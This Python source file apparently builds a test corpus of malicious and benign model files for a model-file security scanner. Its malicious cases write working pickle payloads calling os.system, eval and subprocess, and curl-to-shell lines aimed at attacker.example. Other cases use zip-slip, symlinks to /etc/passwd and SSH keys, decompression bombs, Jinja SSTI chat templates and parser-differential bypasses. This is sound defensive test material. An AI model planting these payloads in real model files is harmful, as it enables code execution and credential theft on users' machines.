"""Builds the scanner corpus: malicious and benign model files, one folder per case.

Nothing is downloaded. Benign files are shaped like the real thing: PyTorch
checkpoints are written with the same pickle protocol, global names,
persistent ids and zip layout that `torch.save` produces (a stand-in `torch`
module is registered while pickling, so the byte stream names
`torch._utils._rebuild_tensor_v2` exactly as a real checkpoint does);
numpy, joblib, h5py, onnx and gguf files are written by those libraries.
Malicious files use the techniques of published exploits and scanner
bypasses (CVE numbers in the technique text).

    python corpus.py OUTDIR        # writes OUTDIR/<case>/... and OUTDIR/expected.json

`expected.json` maps each case folder to {"malicious": bool, "class": …,
"technique": …}. A case is flagged when any file in its folder is unsafe or
could not be analysed (fail closed); a benign case must be clean throughout.
"""

from __future__ import annotations

import collections
import gzip
import io
import json
import os
import pickle
import struct
import sys
import tarfile
import types
import zipfile
import zlib

CASES: list[tuple[str, bool, str, str, object]] = []


def case(name: str, malicious: bool, klass: str, technique: str):
    def register(builder):
        CASES.append((name, malicious, klass, technique, builder))
        return builder

    return register


# --- pickle building blocks -------------------------------------------------


class Call:
    """Pickles as `func(*args)`: how every published pickle payload works."""

    def __init__(self, func, args=()):
        self.func = func
        self.args = args

    def __reduce__(self):
        return (self.func, self.args)

    def __call__(self, *args):
        # Pickle only checks that a reduce target is callable; never called.
        raise RuntimeError("corpus objects are never called")


def payload(func, *args, protocol=4) -> bytes:
    return pickle.dumps(Call(func, args), protocol=protocol)


def sbu(s: str) -> bytes:
    """SHORT_BINUNICODE."""
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def raw_global(module: str, name: str, args: tuple[str, ...] = ("id",)) -> bytes:
    """Protocol 0: GLOBAL module name, MARK, string args, TUPLE, REDUCE, STOP."""
    body = b"".join(b"S'" + a.encode() + b"'\n" for a in args)
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n(" + body + b"tR."


# A stand-in `torch` package, registered only while pickling, so that pickle
# writes the same GLOBAL names a real `torch.save` writes.
def _fake_torch():
    torch = types.ModuleType("torch")
    utils = types.ModuleType("torch._utils")

    def _rebuild_tensor_v2(storage, offset, size, stride, requires_grad, hooks, metadata=None):
        raise RuntimeError("never called")

    def _rebuild_parameter(data, requires_grad, hooks):
        raise RuntimeError("never called")

    for fn in (_rebuild_tensor_v2, _rebuild_parameter):
        fn.__module__ = "torch._utils"
        fn.__qualname__ = fn.__name__
        setattr(utils, fn.__name__, fn)
    for storage in ("FloatStorage", "HalfStorage", "BFloat16Storage", "LongStorage"):
        cls = type(storage, (), {"__module__": "torch", "__qualname__": storage})
        setattr(torch, storage, cls)
    torch._utils = utils
    return torch, utils


class Storage:
    def __init__(self, kind: str, key: str, numel: int, itemsize: int):
        self.kind, self.key, self.numel, self.itemsize = kind, key, numel, itemsize


class Tensor:
    def __init__(self, storage: Storage, size: tuple[int, ...], parameter=False):
        self.storage, self.size, self.parameter = storage, size, parameter

    def __reduce__(self):
        utils = sys.modules["torch._utils"]
        acc, strides = 1, []
        for dim in reversed(self.size):
            strides.append(acc)
            acc *= dim
        stride = tuple(reversed(strides))
        inner = (utils._rebuild_tensor_v2, (self.storage, 0, self.size, stride, False, collections.OrderedDict()))
        if self.parameter:
            return (utils._rebuild_parameter, (Call(*inner), True, collections.OrderedDict()))
        return inner


class TorchPickler(pickle.Pickler):
    def persistent_id(self, obj):
        if isinstance(obj, Storage):
            torch = sys.modules["torch"]
            return ("storage", getattr(torch, obj.kind), obj.key, "cpu", obj.numel)
        return None


def torch_pickle(obj, protocol=2) -> bytes:
    saved = {k: sys.modules.get(k) for k in ("torch", "torch._utils")}
    torch, utils = _fake_torch()
    sys.modules["torch"], sys.modules["torch._utils"] = torch, utils
    try:
        buf = io.BytesIO()
        TorchPickler(buf, protocol=protocol).dump(obj)
        return buf.getvalue()
    finally:
        for k, v in saved.items():
            if v is None:
                sys.modules.pop(k, None)
            else:
                sys.modules[k] = v


def state_dict(layers=2, hidden=16, parameters=False):
    """(state dict object, {storage key: bytes}) shaped like a small MLP."""
    sd = collections.OrderedDict()
    blobs = {}
    key = 0
    for i in range(layers):
        for suffix, shape in (("weight", (hidden, hidden)), ("bias", (hidden,))):
            numel = 1
            for d in shape:
                numel *= d
            st = Storage("FloatStorage", str(key), numel, 4)
            blobs[str(key)] = struct.pack(f"<{numel}f", *[(j % 7) * 0.01 for j in range(numel)])
            sd[f"layers.{i}.{suffix}"] = Tensor(st, shape, parameters)
            key += 1
    return sd, blobs


def torch_zip(path: str, data_pkl: bytes, blobs: dict[str, bytes], prefix="archive", extra=None):
    """The zip layout of `torch.save` (format version 1.x): stored members."""
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_STORED) as z:
        z.writestr(f"{prefix}/data.pkl", data_pkl)
        z.writestr(f"{prefix}/.format_version", "1")
        z.writestr(f"{prefix}/.storage_alignment", "64")
        z.writestr(f"{prefix}/byteorder", "little")
        for k, v in blobs.items():
            z.writestr(f"{prefix}/data/{k}", v)
        z.writestr(f"{prefix}/version", "3\n")
        z.writestr(f"{prefix}/.data/serialization_id", "1234567890123456789012345678901234567890")
        for name, data in (extra or {}).items():
            z.writestr(name, data)


def write(path: str, data: bytes | str):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    mode = "w" if isinstance(data, str) else "wb"
    with open(path, mode) as f:
        f.write(data)


def evil_sd_pickle(protocol=2) -> bytes:
    sd, _ = state_dict(1, 4)
    sd["layers.0.hook"] = Call(os.system, ("curl -s http://attacker.example/x | sh",))
    return torch_pickle(sd, protocol)


# --- malicious: pickle ------------------------------------------------------

@case("pkl-os-system-p0", True, "pickle", "GLOBAL os.system + REDUCE, protocol 0 (classic)")
def _(d):
    write(f"{d}/model.pkl", raw_global("os", "system", ("id",)))


@case("pkl-posix-system-p2", True, "pickle", "posix.system via __reduce__, protocol 2")
def _(d):
    write(f"{d}/model.pkl", payload(os.system, "id", protocol=2))


@case("pkl-builtins-eval", True, "pickle", "builtins.eval of a code string")
def _(d):
    write(f"{d}/model.pkl", payload(eval, "__import__('os').system('id')"))


@case("pkl-builtins-exec", True, "pickle", "builtins.exec of a code string")
def _(d):
    write(f"{d}/model.pkl", payload(exec, "import os; os.system('id')"))


@case("pkl-subprocess-popen", True, "pickle", "subprocess.Popen via NEWOBJ-free REDUCE")
def _(d):
    import subprocess

    write(f"{d}/model.pkl", payload(subprocess.Popen, ["id"]))


@case("pkl-subprocess-check-output", True, "pickle", "subprocess.check_output")
def _(d):
    import subprocess

    write(f"{d}/model.pkl", payload(subprocess.check_output, ["id"]))


@case("pkl-stack-global-memo", True, "pickle", "STACK_GLOBAL with module and name fetched back from the memo")
def _(d):
    data = (
        b"\x80\x04"
        + sbu("os") + b"\x94"
        + sbu("system") + b"\x94"
        + b"00"  # POP POP: the strings now live only in the memo
        + b"h\x00h\x01\x93"  # BINGET 0, BINGET 1, STACK_GLOBAL
        + sbu("id") + b"\x85R."
    )
    write(f"{d}/model.pkl", data)


@case("pkl-getattr-import", True, "pickle", "builtins.getattr(builtins.__import__('os'), 'system')")
def _(d):
    imp = Call(__import__, ("os",))
    write(f"{d}/model.pkl", pickle.dumps(Call(Call(getattr, (imp, "system")), ("id",)), protocol=2))


@case("pkl-pip-main", True, "pickle", "pip.main installs a package (CVE-2025-1716)")
def _(d):
    data = b"\x80\x04" + sbu("pip") + sbu("main") + b"\x93" + b"]\x94(" + sbu("install") + sbu("evil-pkg") + b"e\x85R."
    write(f"{d}/model.pkl", data)


@case("pkl-pkgutil-resolve-name", True, "pickle", "pkgutil.resolve_name('os:system') universal bypass")
def _(d):
    import pkgutil

    write(f"{d}/model.pkl", pickle.dumps(Call(Call(pkgutil.resolve_name, ("os:system",)), ("id",)), protocol=4))


@case("pkl-runpy", True, "pickle", "runpy._run_code executes a code string")
def _(d):
    data = raw_global("runpy", "_run_code", ("import os; os.system('id')",))
    write(f"{d}/model.pkl", data)


@case("pkl-importlib", True, "pickle", "importlib.import_module + getattr")
def _(d):
    import importlib

    mod = Call(importlib.import_module, ("os",))
    write(f"{d}/model.pkl", pickle.dumps(Call(Call(getattr, (mod, "system")), ("id",)), protocol=3))


@case("pkl-operator-methodcaller", True, "pickle", "operator.methodcaller gadget calling os.system")
def _(d):
    import importlib
    import operator

    caller = Call(operator.methodcaller, ("system", "id"))
    write(f"{d}/model.pkl", pickle.dumps(Call(caller, (Call(importlib.import_module, ("os",)),)), protocol=4))


@case("pkl-timeit", True, "pickle", "timeit.timeit runs its statement string")
def _(d):
    import timeit

    write(f"{d}/model.pkl", payload(timeit.timeit, "__import__('os').system('id')", None, None, 1))


@case("pkl-webbrowser", True, "pickle", "webbrowser.open (exfiltration / drive-by)")
def _(d):
    write(f"{d}/model.pkl", raw_global("webbrowser", "open", ("http://attacker.example/",)))


@case("pkl-socket", True, "pickle", "socket.create_connection (reverse shell set-up)")
def _(d):
    data = b"\x80\x02csocket\ncreate_connection\n" + b"X\x10\x00\x00\x00attacker.example" + b"M\xbb\x01\x86\x85R."
    write(f"{d}/model.pkl", data)


@case("pkl-shutil-rmtree", True, "pickle", "shutil.rmtree deletes files")
def _(d):
    write(f"{d}/model.pkl", raw_global("shutil", "rmtree", ("/srv/models",)))


@case("pkl-dotted-name", True, "pickle", "dotted name ('pathlib', 'os.system') resolved by getattr chain")
def _(d):
    data = b"\x80\x04" + sbu("pathlib") + sbu("os.system") + b"\x93" + sbu("id") + b"\x85R."
    write(f"{d}/model.pkl", data)


@case("pkl-inst", True, "pickle", "INST opcode (import and call in one opcode)")
def _(d):
    write(f"{d}/model.pkl", b"(S'id'\nios\nsystem\n.")


@case("pkl-obj", True, "pickle", "OBJ opcode calling os.system")
def _(d):
    write(f"{d}/model.pkl", b"(cos\nsystem\nS'id'\no.")


@case("pkl-newobj-ex", True, "pickle", "NEWOBJ_EX constructing subprocess.Popen")
def _(d):
    data = b"\x80\x04" + sbu("subprocess") + sbu("Popen") + b"\x93" + b"]\x94" + sbu("id") + b"a\x85}\x92."
    write(f"{d}/model.pkl", data)


@case("pkl-build-setstate", True, "pickle", "BUILD on an arbitrary class (its __setstate__ runs)")
def _(d):
    data = b"\x80\x04" + sbu("logging.config") + sbu("Filterer") + b"\x93)\x81" + b"}" + sbu("cmd") + sbu("id") + b"sb."
    write(f"{d}/model.pkl", data)


@case("pkl-ext-registry", True, "pickle", "EXT1 code from the copyreg extension registry")
def _(d):
    write(f"{d}/model.pkl", b"\x80\x02\x82\x01" + b"X\x02\x00\x00\x00id\x85R.")


@case("pkl-dynamic-import", True, "pickle", "STACK_GLOBAL whose module name is computed at load time")
def _(d):
    data = (
        b"\x80\x04"
        + sbu("builtins") + sbu("str") + b"\x93" + sbu("os") + b"\x85R"  # str('os'), a call result
        + sbu("system") + b"\x93" + sbu("id") + b"\x85R."
    )
    write(f"{d}/model.pkl", data)


@case("pkl-nullifai-broken-stream", True, "pickle", "payload in front of a deliberately broken stream (nullifAI)")
def _(d):
    good = payload(os.system, "id", protocol=2)
    write(f"{d}/model.pkl", good[:-1] + b"\xff\xfe broken on purpose")


@case("pkl-second-pickle", True, "pickle", "benign pickle followed by a malicious one in the same stream")
def _(d):
    write(f"{d}/model.pkl", pickle.dumps({"epoch": 3}, protocol=2) + payload(os.system, "id", protocol=2))


@case("pkl-hidden-extension", True, "pickle", "pickle saved under a non-pickle name, weights.dat (CVE-2025-1889)")
def _(d):
    write(f"{d}/weights.dat", payload(os.system, "id", protocol=4))


@case("pkl-torch-hub", True, "pickle", "torch.hub.load fetches and runs code from GitHub")
def _(d):
    write(f"{d}/model.pkl", raw_global("torch.hub", "load", ("attacker/repo", "entry")))


@case("pkl-ctypes", True, "pickle", "ctypes.CDLL loads a native library")
def _(d):
    write(f"{d}/model.pkl", raw_global("ctypes", "CDLL", ("/tmp/evil.so",)))


@case("pkl-memo-overwrite", True, "pickle", "memo slot overwritten: 'collections' is replaced by 'os' before STACK_GLOBAL reads it")
def _(d):
    data = (
        b"\x80\x04"
        + sbu("collections") + b"\x94"  # memo 0 = 'collections'
        + sbu("system") + b"\x94"  # memo 1 = 'system'
        + sbu("os") + b"q\x00"  # BINPUT 0: memo 0 = 'os'
        + b"0"  # POP
        + b"h\x00h\x01\x93"  # STACK_GLOBAL(memo 0, memo 1)
        + sbu("id") + b"\x85R."
    )
    write(f"{d}/model.pkl", data)


@case("pkl-frame-lie", True, "pickle", "FRAME declaring more bytes than the file holds, hiding a payload")
def _(d):
    inner = raw_global("os", "system")
    write(f"{d}/model.pkl", b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + inner)


# --- malicious: containers --------------------------------------------------

@case("torch-zip-payload", True, "container", "PyTorch zip checkpoint whose data.pkl calls os.system")
def _(d):
    _, blobs = state_dict(1, 4)
    torch_zip(f"{d}/pytorch_model.bin", evil_sd_pickle(), blobs)


@case("torch-zip-renamed", True, "container", "PyTorch zip saved as model.ckpt.tmp (extension trick, CVE-2025-10155)")
def _(d):
    _, blobs = state_dict(1, 4)
    torch_zip(f"{d}/model.ckpt.tmp", evil_sd_pickle(), blobs)


def _patch_zip(path: str, fn):
    data = bytearray(open(path, "rb").read())
    fn(data)
    open(path, "wb").write(bytes(data))


@case("zip-name-differential", True, "container", "local header name differs from central directory name (CVE-2025-1944)")
def _(d):
    _, blobs = state_dict(1, 4)
    p = f"{d}/model.pt"
    torch_zip(p, evil_sd_pickle(), blobs)

    def patch(b):
        i = b.index(b"archive/data.pkl")  # the first occurrence is the local header
        b[i + len("archive/data.pk")] = ord("X")

    _patch_zip(p, patch)


@case("zip-flag-bits", True, "container", "encryption flag bit set on data.pkl: Python's zipfile refuses, torch ignores (CVE-2025-1945)")
def _(d):
    _, blobs = state_dict(1, 4)
    p = f"{d}/model.pt"
    torch_zip(p, evil_sd_pickle(), blobs)

    def patch(b):
        for sig in (b"PK\x03\x04", b"PK\x01\x02"):
            i = b.index(sig)
            off = 6 if sig == b"PK\x03\x04" else 8
            b[i + off] |= 0x01

    _patch_zip(p, patch)


@case("zip-bad-crc", True, "container", "wrong CRC on data.pkl: zipfile raises, torch loads anyway (CVE-2025-10156)")
def _(d):
    _, blobs = state_dict(1, 4)
    p = f"{d}/model.pt"
    torch_zip(p, evil_sd_pickle(), blobs)

    def patch(b):
        for sig, off in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
            i = b.index(sig)
            b[i + off] ^= 0xFF

    _patch_zip(p, patch)


@case("zip-slip", True, "container", "archive member named ../../.bashrc (zip slip)")
def _(d):
    with zipfile.ZipFile(f"{d}/model.zip", "w") as z:
        z.writestr("weights/../../../.bashrc", "curl http://attacker.example | sh\n")
        z.writestr("config.json", "{}")


@case("zip-symlink", True, "container", "archive member that is a symlink to /etc/passwd")
def _(d):
    with zipfile.ZipFile(f"{d}/model.zip", "w") as z:
        info = zipfile.ZipInfo("weights.bin")
        info.external_attr = (0o120777 << 16)
        z.writestr(info, "/etc/passwd")


@case("zip-bomb", True, "container", "deflate bomb: 512 MiB of zeros in a small member")
def _(d):
    with zipfile.ZipFile(f"{d}/model.zip", "w", compression=zipfile.ZIP_DEFLATED) as z:
        with z.open("archive/data/0", "w", force_zip64=True) as m:
            chunk = bytes(1 << 20)
            for _ in range(512):
                m.write(chunk)


@case("zip-nested", True, "container", "malicious pickle inside a zip inside a zip")
def _(d):
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as z:
        z.writestr("archive/data.pkl", payload(os.system, "id", protocol=2))
    with zipfile.ZipFile(f"{d}/bundle.zip", "w") as z:
        z.writestr("models/model.pt", inner.getvalue())


@case("zip-trailing-pickle", True, "container", "benign checkpoint with a pickle appended after the end of the zip")
def _(d):
    sd, blobs = state_dict(1, 4)
    p = f"{d}/model.pt"
    torch_zip(p, torch_pickle(sd), blobs)
    with open(p, "ab") as f:
        f.write(payload(os.system, "id", protocol=2))


@case("npy-object-payload", True, "container", "numpy .npy with dtype=object: its payload is a pickle")
def _(d):
    import numpy as np

    arr = np.empty(1, dtype=object)
    arr[0] = Call(os.system, ("id",))
    np.save(f"{d}/embeddings.npy", arr, allow_pickle=True)


@case("npz-object-payload", True, "container", "numpy .npz holding an object array with a payload")
def _(d):
    import numpy as np

    arr = np.empty(1, dtype=object)
    arr[0] = Call(os.system, ("id",))
    np.savez(f"{d}/arrays.npz", weights=np.zeros(4, dtype=np.float32), meta=arr)


@case("joblib-payload", True, "container", "joblib dump of an object whose reduce calls os.system")
def _(d):
    import joblib

    joblib.dump({"model": Call(os.system, ("id",))}, f"{d}/model.joblib")


@case("joblib-zlib-payload", True, "container", "zlib-compressed joblib file hiding a payload")
def _(d):
    import joblib

    joblib.dump({"model": Call(os.system, ("id",))}, f"{d}/model.joblib", compress=("zlib", 3))


@case("gzip-pickle", True, "container", "gzip-compressed pickle payload")
def _(d):
    write(f"{d}/model.pkl.gz", gzip.compress(payload(os.system, "id", protocol=2)))


@case("torch-legacy-stacked", True, "container", "legacy torch.save format: payload in the main pickle after the magic number")
def _(d):
    out = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    out += pickle.dumps(1001, protocol=2)
    out += pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
    out += evil_sd_pickle(2)
    out += pickle.dumps(["0"], protocol=2)
    write(f"{d}/model.pth", out + struct.pack("<q", 16) + bytes(64))


@case("torch-legacy-tar", True, "container", "legacy torch tar checkpoint with a payload in its pickle member")
def _(d):
    with tarfile.open(f"{d}/model.tar", "w") as t:
        for name, data in (("sys_info", pickle.dumps({"protocol_version": 1001}, protocol=2)), ("pickle", evil_sd_pickle(2)), ("storages", pickle.dumps(0, protocol=2)), ("tensors", pickle.dumps(0, protocol=2))):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))


@case("tar-symlink", True, "container", "tar member that is a symlink out of the model folder")
def _(d):
    with tarfile.open(f"{d}/model.tar", "w") as t:
        info = tarfile.TarInfo("weights.bin")
        info.type = tarfile.SYMTYPE
        info.linkname = "/root/.ssh/id_rsa"
        t.addfile(info)


@case("sevenz-archive", True, "container", "7z archive (nullifAI shipped its payload in 7z-compressed checkpoints)")
def _(d):
    # A well-formed 7z signature header: magic, version 0.4, CRCs of a
    # 0-byte next header. Its members cannot be analysed, so it must be refused.
    start = struct.pack("<QQI", 0, 0, zlib.crc32(b""))
    write(f"{d}/model.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start)


# --- malicious: GGUF --------------------------------------------------------

R1_TEMPLATE = (
    "{% if not add_generation_prompt is defined %}{% set add_generation_prompt = false %}{% endif %}"
    "{% set ns = namespace(is_first=false, is_tool=false, system_prompt='') %}"
    "{%- for message in messages %}{%- if message['role'] == 'system' %}{% set ns.system_prompt = message['content'] %}{%- endif %}{%- endfor %}"
    "{{ bos_token }}{{ ns.system_prompt }}"
    "{%- for message in messages %}{%- if message['role'] == 'user' %}{{ '<｜User｜>' + message['content'] }}"
    "{%- elif message['role'] == 'assistant' %}{% set content = message['content'] %}"
    "{% if '</think>' in content %}{% set content = content.split('</think>')[-1] %}{% endif %}"
    "{{ '<｜Assistant｜>' + content + '<｜end▁of▁sentence｜>' }}{%- endif %}{%- endfor %}"
    "{% if add_generation_prompt %}{{ '<｜Assistant｜><think>\\n' }}{% endif %}"
)

LLAMA3_TEMPLATE = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}"
    "{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'+ message['content'] | trim + '<|eot_id|>' %}"
    "{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{% endif %}"
)

CHATML_TEMPLATE = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n'}}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)

SSTI_CVE_2024_34359 = (
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}"
    "{{x()._module.__builtins__['__import__']('os').popen(\"touch /tmp/retr0reg\")}}{%endif%}{% endfor %}"
)


def gguf_file(path: str, template: str | None, arch="llama"):
    import gguf
    import numpy as np

    w = gguf.GGUFWriter(path, arch)
    w.add_name("tiny")
    w.add_context_length(2048)
    w.add_embedding_length(16)
    w.add_block_count(1)
    w.add_tokenizer_model("gpt2")
    if template is not None:
        w.add_chat_template(template)
    w.add_tensor("token_embd.weight", np.arange(64 * 16, dtype=np.float32).reshape(64, 16) / 100)
    w.add_tensor("output_norm.weight", np.ones(16, dtype=np.float32))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()


@case("gguf-ssti-cve-2024-34359", True, "gguf", "chat template SSTI through __subclasses__ (CVE-2024-34359, llama-cpp-python)")
def _(d):
    gguf_file(f"{d}/model.gguf", SSTI_CVE_2024_34359)


@case("gguf-ssti-cycler", True, "gguf", "chat template reaching os through cycler.__init__.__globals__")
def _(d):
    gguf_file(f"{d}/model.gguf", "{{ cycler.__init__.__globals__.os.popen('id').read() }}" + CHATML_TEMPLATE)


@case("gguf-ssti-attr-filter", True, "gguf", "chat template using |attr('__class__') to dodge dot-access checks")
def _(d):
    gguf_file(f"{d}/model.gguf", "{{ (messages|attr('__class__')|attr('__mro__'))[1] }}" + CHATML_TEMPLATE)


@case("gguf-ssti-lipsum", True, "gguf", "chat template reaching builtins through lipsum.__globals__")
def _(d):
    gguf_file(f"{d}/model.gguf", "{{ lipsum.__globals__['os'].popen('id').read() }}")


def _gguf_bytes(kvs: list[tuple[str, int, bytes]], tensors: list[tuple[str, list[int], int, int]], data=b"") -> bytes:
    """Hand-built GGUF v3, for files no writer would produce."""

    def s(x: str) -> bytes:
        b = x.encode()
        return struct.pack("<Q", len(b)) + b

    out = b"GGUF" + struct.pack("<IQQ", 3, len(tensors), len(kvs))
    for key, vtype, value in kvs:
        out += s(key) + struct.pack("<I", vtype) + value
    for name, dims, ggml_type, offset in tensors:
        out += s(name) + struct.pack("<I", len(dims)) + b"".join(struct.pack("<Q", x) for x in dims)
        out += struct.pack("<IQ", ggml_type, offset)
    out += bytes((-len(out)) % 32)
    return out + data


@case("gguf-offset-out-of-file", True, "gguf", "tensor data offset beyond the end of the file (heap overflow class, CVE-2024-25664)")
def _(d):
    write(f"{d}/model.gguf", _gguf_bytes([("general.architecture", 8, struct.pack("<Q", 5) + b"llama")], [("w", [16, 16], 0, 1 << 30)], bytes(1024)))


@case("gguf-huge-string", True, "gguf", "metadata string length of 2^62 bytes (allocation bomb)")
def _(d):
    write(f"{d}/model.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 1 << 62) + b"general.name")


@case("gguf-too-many-dims", True, "gguf", "tensor with n_dims = 9 (beyond GGML_MAX_DIMS)")
def _(d):
    write(f"{d}/model.gguf", _gguf_bytes([], [("w", [1] * 9, 0, 0)], bytes(64)))


# --- malicious: safetensors ---------------------------------------------------

def safetensors_bytes(header: dict, data: bytes, declared_len=None) -> bytes:
    h = json.dumps(header, separators=(",", ":")).encode()
    h += b" " * ((-len(h)) % 8)
    return struct.pack("<Q", declared_len if declared_len is not None else len(h)) + h + data


@case("safetensors-overlap", True, "safetensors", "two tensors sharing overlapping byte ranges")
def _(d):
    hdr = {"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}, "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]}}
    write(f"{d}/model.safetensors", safetensors_bytes(hdr, bytes(24)))


@case("safetensors-header-lie", True, "safetensors", "declared header length beyond the file")
def _(d):
    hdr = {"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}
    write(f"{d}/model.safetensors", safetensors_bytes(hdr, bytes(8), declared_len=1 << 33))


# --- malicious: Hugging Face folder -------------------------------------------

HF_CONFIG = {"architectures": ["Qwen2ForCausalLM"], "model_type": "qwen2", "hidden_size": 16, "num_hidden_layers": 1, "vocab_size": 64, "torch_dtype": "float32"}


def hf_folder(d: str, config=None, tokenizer_config=None):
    write(f"{d}/config.json", json.dumps(config or HF_CONFIG, indent=2))
    write(f"{d}/generation_config.json", json.dumps({"bos_token_id": 0, "eos_token_id": 1, "temperature": 0.6, "top_p": 0.95}))
    tc = {"bos_token": "<｜begin▁of▁sentence｜>", "eos_token": "<｜end▁of▁sentence｜>", "model_max_length": 16384, "chat_template": R1_TEMPLATE}
    tc.update(tokenizer_config or {})
    write(f"{d}/tokenizer_config.json", json.dumps(tc, indent=2, ensure_ascii=False))
    hdr = {"__metadata__": {"format": "pt"}, "lm_head.weight": {"dtype": "F32", "shape": [4, 4], "data_offsets": [0, 64]}}
    write(f"{d}/model.safetensors", safetensors_bytes(hdr, bytes(64)))


@case("hf-auto-map", True, "hf", "config.json auto_map → remote code on trust_remote_code=True")
def _(d):
    cfg = dict(HF_CONFIG, auto_map={"AutoModelForCausalLM": "modeling_evil.EvilForCausalLM"})
    hf_folder(d, cfg)
    write(f"{d}/modeling_evil.py", "import os\nos.system('id')\n")


@case("hf-python-file", True, "hf", "a Python file shipped in the model folder")
def _(d):
    hf_folder(d)
    write(f"{d}/custom_tokenizer.py", "import subprocess\nsubprocess.run(['id'])\n")


@case("hf-template-ssti", True, "hf", "tokenizer_config.json chat_template with SSTI (CVE-2024-34359 shape)")
def _(d):
    hf_folder(d, tokenizer_config={"chat_template": SSTI_CVE_2024_34359})


# --- malicious: Keras -------------------------------------------------------

def keras_zip(path: str, layers: list[dict]):
    cfg = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "layers": layers},
        "registered_name": None,
    }
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.6.0", "date_saved": "2025-01-01@00:00:00"}))
        z.writestr("config.json", json.dumps(cfg))
        z.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + bytes(504))


DENSE = {"module": "keras.layers", "class_name": "Dense", "config": {"name": "dense", "units": 4, "activation": "relu"}, "registered_name": None}


@case("keras-lambda", True, "keras", "Lambda layer with marshalled bytecode (CVE-2024-3660)")
def _(d):
    lam = {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "lambda", "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAAAAAAAAEAAAADAAAAQwAAAHMEAAAAfABTAKkBTqkAqQHaAXhyAgAAAHICAAAA+gA=", "defaults": None, "closure": None}}}, "registered_name": None}
    keras_zip(f"{d}/model.keras", [DENSE, lam])


@case("keras-module-os", True, "keras", "layer config naming module 'os' (safe_mode bypass, CVE-2025-1550)")
def _(d):
    evil = {"module": "os", "class_name": "system", "config": {"command": "id"}, "registered_name": "system"}
    keras_zip(f"{d}/model.keras", [DENSE, evil])


@case("keras-h5-lambda", True, "keras", "legacy HDF5 model whose model_config holds a Lambda layer")
def _(d):
    import h5py

    cfg = {"class_name": "Sequential", "config": {"name": "seq", "layers": [{"class_name": "Lambda", "config": {"name": "l", "function": ["4wEAAAAAAAAA", None, None], "function_type": "lambda"}}]}}
    with h5py.File(f"{d}/model.h5", "w") as f:
        f.attrs["model_config"] = json.dumps(cfg).encode()
        f.attrs["keras_version"] = b"2.15.0"
        f.create_dataset("model_weights/dense/kernel", data=[[0.0, 1.0]])


# --- malicious: ONNX --------------------------------------------------------

def onnx_model(path: str, location: str | None):
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    w = numpy_helper.from_array(np.ones((4, 4), dtype=np.float32), name="W")
    if location is not None:
        w.ClearField("raw_data")
        w.data_location = TensorProto.EXTERNAL
        for k, v in (("location", location), ("offset", "0"), ("length", "64")):
            e = w.external_data.add()
            e.key, e.value = k, v
    x = helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])
    y = helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 4])
    graph = helper.make_graph([helper.make_node("MatMul", ["X", "W"], ["Y"])], "g", [x], [y], [w])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], producer_name="pytorch")
    onnx.save_model(model, path)


@case("onnx-external-traversal", True, "onnx", "external data location ../../../etc/passwd (CVE-2024-27318)")
def _(d):
    onnx_model(f"{d}/model.onnx", "../../../etc/passwd")


@case("onnx-external-absolute", True, "onnx", "external data at an absolute path /root/.ssh/id_rsa")
def _(d):
    onnx_model(f"{d}/model.onnx", "/root/.ssh/id_rsa")


# --- malicious: leaked secrets ------------------------------------------------
# Assembled from parts so that this source file itself holds no secret-shaped
# string a repository scanner would (rightly) flag.

def _tok(prefix: str, n: int, alphabet="abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789") -> str:
    return prefix + "".join(alphabet[(i * 7 + 3) % len(alphabet)] for i in range(n))


@case("secret-aws", True, "secrets", "AWS access key pair in the README")
def _(d):
    hf_folder(d)
    key = "AKIA" + "Q3EGRVTW5SXNB7KP"
    secret = _tok("", 40, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789/+")
    write(f"{d}/README.md", f"# tiny\n\nTo re-upload:\n\n    aws_access_key_id = {key}\n    aws_secret_access_key = {secret}\n")


@case("secret-hf-token", True, "secrets", "Hugging Face token left in config.json")
def _(d):
    hf_folder(d, dict(HF_CONFIG, hub_token=_tok("hf" + "_", 34)))


@case("secret-openai", True, "secrets", "OpenAI API key in generation_config.json")
def _(d):
    hf_folder(d)
    write(f"{d}/generation_config.json", json.dumps({"eos_token_id": 1, "eval_api_key": _tok("sk-" + "proj-", 48)}))


@case("secret-github", True, "secrets", "GitHub personal access token in a notes file")
def _(d):
